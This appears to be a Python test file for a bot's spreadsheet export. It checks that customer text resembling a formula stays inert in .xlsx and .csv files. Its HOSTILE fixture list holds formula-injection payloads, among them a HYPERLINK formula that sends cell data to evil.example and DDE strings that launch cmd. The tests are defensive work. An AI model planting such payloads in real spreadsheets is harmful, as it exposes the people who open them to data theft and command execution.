"""Spreadsheets we hand out: a customer's text is never a formula, in .xlsx or .csv, and nothing else in the
code writes a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from datetime import datetime

import openpyxl

from bot.store.export import CsvWriter, XlsxBook
from tests.test_layout import MODULES

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A2,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
)


async def test_an_xlsx_cell_that_reads_like_a_formula_is_text_and_shows_as_typed():
    book = XlsxBook()
    sheet = book.sheet("客户")
    sheet.append(["客户", "次数", "时间"])
    for i, text in enumerate(HOSTILE):
        sheet.append([text, i - 1, datetime(2026, 3, 10, 12, 0)])
    sheet.append(["控制\x01字符\x1f被去掉", None, "普通文字"])
    out = io.BytesIO()
    await book.save(out)

    rows = list(openpyxl.load_workbook(io.BytesIO(out.getvalue()))["客户"].iter_rows())
    cells = [c for row in rows for c in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    # (XML reads a carriage return back as a line feed)
    assert [r[0].value for r in rows[1:-1]] == [t.replace("\r", "\n") for t in HOSTILE]
    # Excel's leading apostrophe: a cell someone edits stays text
    assert all(r[0].quotePrefix for r in rows[1:-2]) and not rows[0][0].quotePrefix
    assert [r[1].value for r in rows[1:3]] == [-1, 0]  # numbers stay numbers
    assert rows[1][2].value == datetime(2026, 3, 10, 12, 0)
    assert rows[-1][0].value == "控制字符被去掉"


def test_a_csv_cell_that_reads_like_a_formula_starts_with_an_apostrophe():
    out = io.BytesIO()
    writer = CsvWriter(out)
    writer.append(["客户", "次数"])
    for i, text in enumerate(HOSTILE):
        writer.append([text, i - 1])
    writer.append(['他说"你好"，再见', None])
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 Chinese only with the mark
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["客户", "次数"]
    assert [r[0] for r in rows[1:-1]] == ["'" + t if t != "#N/A" else t for t in HOSTILE]
    assert [r[1] for r in rows[1:3]] == ["-1", "0"]  # a number is data, not text to neutralise
    assert rows[-1] == ['他说"你好"，再见', ""]
    assert b'"=' not in data and b",=" not in data  # every field is quoted and none opens with =


def test_only_the_export_module_writes_spreadsheets():
    """Every export, now and later, goes through bot.store.export: no other module imports a writer."""
    writers = {"openpyxl", "csv", "xlsxwriter"}
    found = []
    for name, path in MODULES.items():
        if name == "bot.store.export":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and not node.level:
                names = [node.module or ""]
            found += [f"{name} imports {n}" for n in names if n.split(".")[0] in writers]
    assert not found, found
